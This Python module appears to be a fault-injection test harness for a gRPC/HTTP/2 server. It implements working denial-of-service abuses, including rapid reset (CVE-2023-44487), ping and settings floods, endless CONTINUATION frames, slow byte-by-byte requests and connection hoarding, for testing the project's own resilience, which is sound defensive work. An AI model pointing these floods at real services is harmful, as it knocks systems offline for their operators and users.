"""What a hostile client does to a server of HTTP/2: one abuse each, for as long as it is told to.

`python -m tests.faults.abuse NAME TARGET KEY SECONDS` prints how often it did it. Without a key it is a stranger. Where the peer
hangs up, it comes again.
"""

from __future__ import annotations

import contextlib
import os
import sys
from collections.abc import Callable, Iterator
from time import monotonic

from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, SettingsFrame, WindowUpdateFrame

from taskmeter.v1 import task_service_pb2
from tests.http2 import (
    FRAME_BYTES,
    INITIAL_WINDOW_SIZE,
    PREFACE,
    Raw,
    data,
    encode,
    headers_of,
    message,
    opening,
    reset,
    settings,
)

READ = "/taskmeter.v1.TaskService/ListTasks"
STREAM = "/taskmeter.v1.TaskService/StreamEvents"
CHECK = "/grpc.health.v1.Health/Check"
BATCH = 200
MOST_CONNECTIONS = 4_000
HUGE_BYTES = 64 << 20
ALLOWED_BYTES = (4 << 20) - 1
"""One byte more would be refused by the length alone."""
HOARDS = 32
"""Connections that hoarded_calls opens, with BATCH calls each."""
SEND_SECONDS = 0.2
"""Patience with a peer that does not take what is sent."""


class Victim:
    """Whom it is done to, and until when."""

    def __init__(self, target: str, key: str, seconds: float) -> None:
        self.target = target
        self.key = key
        self.deadline = monotonic() + seconds
        self.count = 0
        self.hung_up_count = 0

    @property
    def goes_on(self) -> bool:
        return monotonic() < self.deadline

    def connections(self, values: dict[int, int] | None = None, *, greet: bool = True) -> Iterator[Raw]:
        """Yield one connection after the other until the time is up; an error of one ends that one."""
        while self.goes_on:
            try:
                raw = Raw(self.target, values, greet=greet)
            except OSError:
                self.hung_up_count += 1
                continue
            with raw:
                yield raw

    def pour(self, raw: Raw, make: Callable[[], bytes], count: int = BATCH) -> None:
        """Send what `make` makes, again and again, without reading, until the peer hangs up or takes no more."""
        while self.goes_on:
            try:
                raw.send(make(), SEND_SECONDS)
            except OSError:
                self.hung_up_count += 1
                return
            self.count += count

    def hold(self, open_one: Callable[[], Raw], most: int) -> None:
        """Open connections and keep them until the time is up; a new one for each that the peer closes."""
        held: list[Raw] = []
        try:
            while self.goes_on:
                if len(held) < most:
                    try:
                        held.append(open_one())
                        self.count += 1
                        continue
                    except OSError:
                        self.hung_up_count += 1
                closed = [raw for raw in held if raw.read(0.001) is None]
                for raw in closed:
                    held.remove(raw)
                    raw.close()
                self.hung_up_count += len(closed)
        finally:
            for raw in held:
                raw.close()


def rapid_reset(victim: Victim) -> None:
    """Calls that are taken back at once (CVE-2023-44487)."""
    block = encode(headers_of(STREAM, victim.key))
    for raw in victim.connections():
        victim.pour(raw, lambda raw=raw: b"".join(opening(each, block) + reset(each) for each in raw.stream_ids(BATCH)))  # type: ignore[misc]


def whole_calls_reset(victim: Victim) -> None:
    """The same with whole requests, so that their handlers begin."""
    block, body = encode(headers_of(READ, victim.key)), message(b"")
    for raw in victim.connections():
        victim.pour(
            raw,
            lambda raw=raw: b"".join(  # type: ignore[misc]
                opening(each, block) + data(each, body, end=True) + reset(each) for each in raw.stream_ids(BATCH)
            ),
        )


def ping_flood(victim: Victim) -> None:
    """Pings whose answers are never read (CVE-2019-9512)."""
    pings = PingFrame(0, b"12345678").serialize() * BATCH
    for raw in victim.connections():
        victim.pour(raw, lambda: pings)


def settings_flood(victim: Victim) -> None:
    """Settings, each of which has to be confirmed (CVE-2019-9515)."""
    flood = settings({SettingsFrame.ENABLE_PUSH: 0}) * BATCH
    for raw in victim.connections():
        victim.pour(raw, lambda: flood)


def empty_frames(victim: Victim) -> None:
    """DATA without data, without an end (CVE-2019-9518)."""
    block = encode(headers_of(READ, victim.key))
    for raw in victim.connections():
        [stream_id] = raw.stream_ids(1)
        raw.send(opening(stream_id, block))
        flood = DataFrame(stream_id, b"").serialize() * BATCH
        victim.pour(raw, lambda flood=flood: flood)  # type: ignore[misc]


def no_preface(victim: Victim) -> None:
    """Bytes that are no HTTP/2: random ones, another protocol's, and the preface spoilt at its end."""
    kinds = (
        os.urandom(4096),
        b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n",
        PREFACE[:-1] + b"?",
        b"\x16\x03\x01\x02\x00\x01" * 100,
    )
    for raw in victim.connections(greet=False):
        try:
            raw.send(kinds[victim.count % len(kinds)])
            raw.read(SEND_SECONDS)
        except OSError:
            victim.hung_up_count += 1
        victim.count += 1


def oversized_headers(victim: Victim) -> None:
    """A megabyte of headers per call."""
    block = encode(headers_of(READ, victim.key, **{f"x-{number}": "v" * 8000 for number in range(128)}))
    for raw in victim.connections():
        victim.pour(raw, lambda raw=raw: b"".join(opening(each, block) for each in raw.stream_ids(1)), 1)  # type: ignore[misc]


def endless_headers(victim: Victim) -> None:
    """CONTINUATIONs without an end (CVE-2024-27316)."""
    block = encode(headers_of(READ, victim.key))
    more = ContinuationFrame(1, encode([("x", "v" * (FRAME_BYTES - 100))])).serialize() * 16
    for raw in victim.connections():
        raw.send(HeadersFrame(1, block).serialize())
        victim.pour(raw, lambda: more, 16)


def oversized_messages(victim: Victim) -> None:
    """Messages that say they are 64 MB long."""
    block = encode(headers_of(READ, victim.key))
    body = message(bytes(FRAME_BYTES - 5), HUGE_BYTES)
    for raw in victim.connections():
        victim.pour(raw, lambda raw=raw: b"".join(opening(each, block) + data(each, body) for each in raw.stream_ids(8)), 8)  # type: ignore[misc]


def unfinished_messages(victim: Victim, path: str = READ) -> None:
    """Messages just as large as they may be, all of them but for their last byte, on as many calls as will do."""
    block = encode(headers_of(path, victim.key))

    def open_one() -> Raw:
        raw = Raw(victim.target)
        ids = list(raw.stream_ids(64))
        raw.send(b"".join(opening(each, block) + data(each, message(b"", ALLOWED_BYTES)) for each in ids))
        part = b"".join(data(each, bytes(FRAME_BYTES)) for each in ids)
        with contextlib.suppress(OSError):  # it takes no more
            for _ in range(ALLOWED_BYTES // FRAME_BYTES):
                raw.send(part, SEND_SECONDS)  # more than the windows allow, if need be
                raw.read(0.001)
        return raw

    victim.hold(open_one, 16)


def unfinished_checks(victim: Victim) -> None:
    """The same with a method that needs no key."""
    unfinished_messages(victim, CHECK)


def silent_connections(victim: Victim) -> None:
    """Connections that say nothing, or stop in the middle of the preface."""

    def open_one() -> Raw:
        raw = Raw(victim.target, greet=False)
        if victim.count % 2:
            raw.send(PREFACE[:10])
        return raw

    victim.hold(open_one, MOST_CONNECTIONS)


def idle_connections(victim: Victim) -> None:
    """Connections that greet and then say nothing more."""
    victim.hold(lambda: Raw(victim.target), MOST_CONNECTIONS)


def hoarded_calls(victim: Victim) -> None:
    """Calls that are begun and never ended, as many as there is room for."""
    block = encode(headers_of(STREAM, victim.key))

    def open_one() -> Raw:
        raw = Raw(victim.target)
        raw.send(b"".join(opening(each, block) for each in raw.stream_ids(BATCH)), SEND_SECONDS)
        return raw

    victim.hold(open_one, HOARDS)


def closed_windows(victim: Victim) -> None:
    """Calls for all there is, by a client that lets nothing of an answer come."""
    body = message(task_service_pb2.StreamEventsRequest(from_seq=1).SerializeToString())
    block = encode(headers_of(STREAM, victim.key))

    def open_one() -> Raw:
        raw = Raw(victim.target, {INITIAL_WINDOW_SIZE: 0})
        raw.send(b"".join(opening(each, block) + data(each, body, end=True) for each in raw.stream_ids(50)))
        return raw

    victim.hold(open_one, 4)


def overflown_windows(victim: Victim) -> None:
    """Windows made larger than there are numbers for (RFC 9113, 6.9.1)."""
    update = WindowUpdateFrame(0, 2**31 - 1).serialize()
    for raw in victim.connections():
        victim.pour(raw, lambda: update, 1)


def slow_requests(victim: Victim) -> None:
    """Requests that come byte by byte over many connections."""
    request = PREFACE + settings() + opening(1, encode(headers_of(READ, victim.key))) + data(1, message(b""), end=True)
    raws = []
    try:
        for position in range(len(request)):
            for index in range(200):
                if not victim.goes_on:
                    return
                if not position:
                    raws.append(Raw(victim.target, greet=False))
                try:
                    raws[index].send(request[position : position + 1])
                    victim.count += 1
                except OSError:
                    victim.hung_up_count += 1
    finally:
        for raw in raws:
            raw.close()


ABUSES: dict[str, Callable[[Victim], None]] = {
    each.__name__: each
    for each in (
        rapid_reset,
        whole_calls_reset,
        ping_flood,
        settings_flood,
        empty_frames,
        no_preface,
        oversized_messages,
        unfinished_messages,
        unfinished_checks,
        silent_connections,
        idle_connections,
        hoarded_calls,
        closed_windows,
        overflown_windows,
        slow_requests,
        oversized_headers,
        endless_headers,
    )
}
NEED_KEY = {"closed_windows", "whole_calls_reset"}
"""A stranger's calls are refused before they cost what these are about."""


def main() -> None:
    name, target, key, seconds = sys.argv[1:]
    victim = Victim(target, key, float(seconds))
    ABUSES[name](victim)
    print(victim.count, victim.hung_up_count, flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
